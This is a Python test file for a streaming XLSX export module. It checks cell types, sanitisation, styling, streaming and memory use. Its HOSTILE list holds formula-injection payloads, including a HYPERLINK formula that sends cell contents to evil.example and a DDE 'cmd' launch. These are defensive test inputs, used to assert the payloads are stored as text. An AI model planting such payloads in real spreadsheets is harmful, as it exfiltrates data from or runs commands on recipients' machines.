"""core.spreadsheet's streamed XLSX: read back cell for cell, typed, never a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
import subprocess
import tracemalloc
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from gongkai.core.spreadsheet import column_letter, xlsx_bytes, xlsx_stream

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&C3,"点击查看原件")',
    "=cmd|' /C calc'!A0 请公开文件",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


def _book(body: bytes):
    return load_workbook(io.BytesIO(body)).active


def test_every_value_reads_back_with_its_type():
    rows = [
        ["王秀英", 7, 2.5, dt.date(2026, 3, 2), dt.datetime(2026, 3, 2, 9, 30), True, None, "x"],  # noqa: DTZ001  a spreadsheet's wall-clock time
        ["  前后空格  ", -3, Decimal("12.50"), dt.date(1999, 12, 31), None, False, "", "a<b>&c"],
    ]
    sheet = _book(xlsx_bytes("案件", ["名", "数", "小数", "日期", "时间", "真", "空", "文"], rows))
    got = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert got[0] == [
        "王秀英", 7, 2.5, dt.datetime(2026, 3, 2), dt.datetime(2026, 3, 2, 9, 30), True, None, "x",  # noqa: DTZ001  a spreadsheet's wall-clock time
    ]  # fmt: skip
    assert got[1] == [
        "  前后空格  ",
        -3,
        12.5,
        dt.datetime(1999, 12, 31),  # noqa: DTZ001  a spreadsheet's wall-clock time
        None,
        False,
        None,  # "" is an empty cell, as openpyxl writes it
        "a<b>&c",
    ]
    types = [c.data_type for c in next(sheet.iter_rows(min_row=2))]
    assert types == ["s", "n", "n", "d", "d", "b", "n", "s"]
    assert sheet["D2"].number_format == "yyyy-mm-dd"


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_a_string_cell_shown_as_typed(text):
    sheet = _book(xlsx_bytes("案件", [text, "说明"], [[text, text + " 请公开"]]))
    cells = [c for row in sheet.iter_rows() for c in row]
    assert [c.value for c in cells] == [text, "说明", text, text + " 请公开"]
    assert all(c.data_type == "s" for c in cells)


def test_characters_illegal_in_xml_are_dropped_and_the_file_still_opens():
    sheet = _book(xlsx_bytes("案件", ["a"], [["前\x00\x01\x08\x0b\x1f后\ufffe", "行\n二"]]))
    assert [sheet["A2"].value, sheet["B2"].value] == ["前后", "行\n二"]


def test_header_is_bold_frozen_and_columns_have_their_widths():
    sheet = _book(xlsx_bytes("依申请公开案件", ["申请编号", "申请人"], [], widths=[18, 14]))
    assert sheet.title == "依申请公开案件"
    assert sheet["A1"].font.b and sheet["A1"].fill.fgColor.rgb == "FFF2F2F2"
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width == 18


def test_sheet_names_lose_the_characters_excel_refuses():
    title = _book(xlsx_bytes("2026/03 [案件]: 列表?" * 3, ["a"], [])).title
    assert title == "2026 03  案件   列表 2026 03  案件   "  # 31 characters at most


def test_column_letters():
    assert [column_letter(i) for i in (1, 26, 27, 52, 703)] == ["A", "Z", "AA", "AZ", "AAA"]


def test_rows_are_consumed_lazily_and_bytes_come_out_in_chunks():
    consumed = []

    def rows():
        for i in range(5000):
            consumed.append(i)
            yield [i, "申请人", dt.date(2026, 1, 1)]

    chunks = xlsx_stream("案件", ["n", "名", "日期"], rows(), batch=1000)
    next(chunks)  # the fixed parts, before any row is read
    assert consumed == []
    next(chunks)
    assert len(consumed) == 1000
    rest = list(chunks)
    assert len(consumed) == 5000 and len(rest) >= 4


def test_memory_stays_flat_while_streaming_many_rows():
    def rows(n):
        return ([i, "请公开太仓市2025年度城市道路建设项目的立项批复文件。" * 2] for i in range(n))

    def peak(n):
        tracemalloc.start()
        for _chunk in xlsx_stream("案件", ["n", "d"], rows(n)):
            pass
        size = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return size

    assert peak(40000) < 1.5 * peak(4000)


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice not installed")
def test_libreoffice_opens_it_with_text_as_text(tmp_path):
    path = tmp_path / "cases.xlsx"
    path.write_bytes(
        xlsx_bytes("案件", ["申请人", "日期", "数"], [[t, dt.date(2026, 3, 2), 3] for t in HOSTILE])
    )
    subprocess.run(
        ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile",
         "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(tmp_path), str(path)],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    with open(tmp_path / "cases.csv", encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["申请人", "日期", "数"]
    assert [r[0] for r in rows[1:]] == HOSTILE  # text as typed: not evaluated
    assert rows[1][1:] == ["2026-03-02", "3"]
